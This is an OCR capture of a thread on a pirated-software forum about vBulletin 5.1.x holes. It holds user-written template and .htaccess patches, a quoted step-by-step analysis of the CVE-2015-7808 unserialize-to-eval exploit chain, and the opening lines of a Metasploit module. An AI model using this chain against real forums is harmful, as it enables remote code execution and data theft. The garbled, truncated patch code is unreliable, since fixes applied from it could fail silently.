Jump to content
vBWarez - Rest In Peace

Fix for vb5.1.x Security Exploits

Recommended Posts

vB 5x EXPLOIT and Module fix, v2.0.

There exists in vBulletin a major exploit which if known and applied allows any unregistered user to access information about other users.
While searching for a solution to the ever annoying issue of how to set Permissions on a Module so that unregistered users don't see the content when the programmer of the module didn't include an Edit Permissions option, I discovered a horrible exploit. I did some testing and find it exists as far back as 5.0.1 right up to 5.1.9b1.

Fortunately the exploit is conditional.
Upon what, I am not telling.
What I can say, is that the more forums you host, the greater the susceptibility of the exploit.
Using a brute force generator on a very secure vB5.1.6 it took all of 3 minutes to obtain 10 useraccounts.
This exploit allows one to enter into an account, without registration, without login and regardless of Permissions or passwords.
One is able to gather all informationavailable within a users Profile, including personal information, photos, media, subscriptions,et c.

This is a blatant fault of bad programming.
Computers 101, Error Trap all your routines.
The coders of vB have left out a lot of error trapping and as a result, exploits.

Luckily the resolve is an easy one, though tedious.
Better coders may find ways to improve upon this fix.

Bare in mind that this all hinges on the fact ones Forum is not already open to the public and that it requires registration.

Go into the AdminCP,
Styles & Templates,
Located your Style and edit the Template,
Expand Profile Templates.

You will need to modify 7 templates-
profilefields, profile_about, profile_activity, profile_custom_edit, profile_following, profile_media and profile_textphotodetail

The procedure is the same for all.

Firstly, go to your AdminCP, UserGroups, User Groups Manager...
look for the Registered Users entry, on the right, find the ID #
This is almost always 2, but if not, adjust the code below.

At the top of each template as the very first line, add

<vb:if condition="is_member_of($user, 2)">

Then at the bottom of each template, add


Save, repeat.What this does is tells the forum code, if you are NOT registered and logged into the forum, DO NOT display this portion of code.
This same process may be applied to Module Templates such as-
widget_announcement, widget_birthday, widget_onlineusers
All ofwhich do not have Permission settings and each of which no one else needs to see unless they are a member.

This code could be applied to a lot of templates.
But not all. Do not apply it to ones that need to be accessible to unregistered person who want to register, such as the Content template or the CAPCHA.

IMO All Styles need to be overhauled and recoded to include something similar to the patch.
I'm not sure how these changes will affect upgrading.

Notes: The exploits by Coldzer0 and _cutz are NOT the same. The one that _cutz reported is a different approach to the one I reported, having the same results.

The exploit I reported (months before _cuts) can be patched as explained above.

The one by Coldzer0 can easily be stopped by use of an .htaccess file.
Create a text file called .htaccess
In it enter this-
[CODE]order allow,deny
allow fromdeny from all
Satisfy Any
Save the file.
Place it into your htdocs\core\admincp folder.

Next, go into htdocs\core\admincp and edit index.php
Look for the phpinfo entry and replace it with this-
[CODE]// ### SHOW PHP INFO ###

if ($_REQUEST['do'] == 'phpinfo')
if(!vB::getUserContext()->hasAdminPermission('canuseallmaintenance'))



What this does is to instruct the server to deny access to these files by anyone other than on the localhost and do not allow anyone to run this script unless they are the administrator and logged onto the admin account.

This will fix the exploits without having to install the security patch or risk the patch reinserting the RSA keys to Nulled forums.
Link to post
Share on other sites
It is an exploit patch, of course it isn't "official".
I dare you to find an OFFICIAL release from vBulletin that works this well and doesn't require installing an incomplete security patch which is screwing up forums.
I can't help notice this troll sounds very much like Devil of ******, formerly Zombie here.
I posted these same security patches on another vB forum, where I was a moderator, and a very rude troll there delete it all and behaved in a very inappropriate manor. As a result, I left that forum. Now it seems the troll, banned here before, has registered a new account for the purpose of trolling.

The first exploit is one I patched which even vB has yet to address. First released right here on VBWarez :)
The second exploit I patched a month before vB would admit to it.
People want patches to fix the security exploits, and not more upgrades that only make things worse, and are not available to the public.
So, troll, go home, crawl back under your rock, and know that it is your own ignorance that has cost you my skills and brought me back here. Edited by Snail
Link to post
Share on other sites
  • Moderators
Guys calm down.

The fixes provided by snail can't doany damage to your forum (if you read it carefully). I can't say if it is necessary to do this things (i don't work with vB5), but it shouldn't destroy something.

Any content not downloaded from the official site is untrustet - so nearly every upload here COULD be modified. You have to decide for yourself if you trust the uploader or not.

So most things here could be modified - its useless to say in every post that something is unofficial, as everything here is unofficial. It doesn't matter if someone is wellknown for his fixes or not, if someone find a fix he can post it, if you trust this or not you have to decide for yourself.
So stop saying that in every thread it's pointless and will be deleted - also it's spam.

greetz Edited by Reaper1345
Link to post
Share on other sites
Here is another exploit fix.

This affects vB5 5.1.2-5.1.9
[QUOTE]vBulletin is a commercial forum and blog platform developed by vBulletin Solutions, Inc. It was created over 10 years ago and is written in PHP. It is the world’s most popular forum platform, powering ~78% out of the forums in the top 100K web-sites. Currently there are estimated to be over 40,000 live sites using vBulletin.

A month ago, Check Point privately reported a critical unauthenticated RCE vulnerability to vBulletin support. This vulnerability was independently discovered by Netanel Rubin, and assigned CVE-2015-7808.

When exploited, the vulnerability allows an attacker to execute PHP code on any vBulletin server without requiring user authentication. It does not require any themes or modules other than the ones installed by default.

As widely reported, the main vBulletin.org forum was compromised earlier this week and an exploit for a vBulletin 0-day was up for sale in online markets.

A patch later released by vBulletin fixes the vulnerability reported, but fails to neither credit any reporting nor mention the appropriate CVE number.
This is the 3rd time in the past month that vBulletin.org has laid claim to a fix which they did not resolve. Furthermore, those who did discover the exploit and others who fixed those exploits were nevercredited. The fixes were released for free on many vB forums but vBulletin.org wants customers to purchase upgrades to vB 5.1.9 and pay for the security patch.

f you administer any vBulletin web site, we urge you to apply the patch as soon as possible, as exploitation risk is imminent.

It is important to note the analyzed public exploit shows a different chain than the one we used for our PoC; therefore we cannot link the attacks directly to our report.

vBulletin handles a lot of the heavy lifting through an internal API. Unfortunately parts of that API are also used as a gate for Ajax requests, and as a result this API is also accessible through the regular CGI.

This API does not validate the origin of the request, allowing us to access any part of its interface. That interface, in fact, allows us to call any public method in any class that inherits from ‘vB_Api’ and located in ‘/core/vb/api/’. This folder contains dozens of classes and hundreds of methods for us to use as an attack surface, and asnoted, some of them considered internal methods. Moreover, we can call these methods with any arguments we’d like, as the API doesn’t have any sort of argument white listing.

Our findings begin with the vulnerable method ‘vB_Api_Hook::decodeArguments()’, which, again, requires no authentication, and at its first line of code contains an ‘unserialize’ call. This can be seen in the following code:

pic 1

Because we control the ‘$arguments’ parameter we can also control what goes into the ‘unserialize()’ call. That means we can actually craft and inject any object we’d like into the ‘$args’ variable.

PHP objects share several ‘magic methods’ that get called automatically whenever specific events occur. Such a trigger event, for example, is the destruction of an object (the ‘__destruct()’ method gets called), or an attempt to use an object as a string, triggering its ‘__toString()’ method.

That means we can now trigger a call to any ‘__destruct()’ method for any defined class. We only set our object to be of that type, and when the ‘decodeArguments()’ function returns, that object will get destructed.

Examine the following interesting destructor for vB_vURL:

pic 2

This method takes the ‘tmpfile’ property and treats it as a file name that, if exists,gets deleted.

This can obviously be exploited to remove any file accessible to the web server, most likely rendering the server inoperable, or even causing permanent data loss. However, we are after higher goals. We can leverage this code to gain more access to protected methods in objects. If we insert another object into ‘tmpfile’, an attempt to convert it into a string will happen once the ‘file_exists()’ call is reached. In effect, this now added all ‘__toString()’ methods to our widening attacking surface.

Take a look at vB_View’s ‘__toString()’:

pic 3

This ‘__toString()’ make a call to vB_View’s ‘render()’ method right off the bat. Unfortunately, this base ‘render()’ method doesn’t do anything of interest for our exploitation purposes. Consider, however, the ‘vB_View_AJAXHTML’ class, inheriting from vB_View, and implementing a very different ‘render()’ method:

pic 4

As seen above, this ‘render()’ calls another ‘render()’, for the object under the ‘content’ property. Since we can control that one, too, we can now target our ‘render()’ call at any class (not only vB_View objects).

This leads us to the ‘vB5_Template’ class, which implements its own ‘render()’ method:

pic 5

Basically, this method loads a template from the cache or DB using the template name specified in the ‘template’ property. Afterwards, it evals or includes it based on the template type.

Because the template name is only used inside a (properly escaped) SQL query, we can’t use it for a LFI attempt. Still, this allows us to load any template we want from the DB.

Let’s look at the ‘widget_php’ templatecode:

pic 6

The ‘code’ value in the ‘$widgetConfig’ dictionary is the argument for a function which (ultimately) evals its content. If we could control this variable, we would be able to execute any PHP code we’d like on the server.

Let’s see how we do exactly that.

The ‘render()’ method atthe ‘vB5_Template’ class call the ‘extract()’ function with the ‘$this->registered’ as an argument. As some readers may observe, ’extract()’ receives a key-value dictionary as an argument and adds the key-value pairs asvariables and respective values to the current scope. Because we control ‘$this->registered’, we can add any variable and value to the current scope.

Finally, we add the ‘$widgetConfig’ variable to the ‘registered’ property, set its value as a dictionary containing ‘code’ as a key and our exploit PHP code as its value.

[QUOTE]One thing I don’t understand is that this refers to vb 5x code, however vbulletin.org is running vbulletin 3.6 .. This would explain thevbulletin.com support forums hack, but not the vbulletin.org community forum hack. There must be a similar hack out there that targets vb 3x and/or 4x?[/QUOTE]

[QUOTE]Correct. This exploit, while it differs from version to version of vB, exploits the way vB uses PHP and therefor all version of vB can be exploited using a variation of the exploit code.[/QUOTE]

By carefully examining the below code we can see how malicious hackers are gaining access to the vB database and altering or even crippling entire servers.

# This module requires Metasploit:http://metasploit.com/download
# Current source: https://github.com/rapid7/metasploit-framework

require 'msf/core'

class Metasploit3 < Msf::Exploit::Remote
Rank = ExcellentRanking

include Msf::Exploit::Remote::HttpClient

def initialize(info = {})
'Name' => 'vBulletin 5.1.X Unserialize Code Execution',
'Description' => %q{
This module exploits a PHP object injection vulnerability in vBulletin 5.1.2 to 5.1.9 as discovered by Snailsoft.
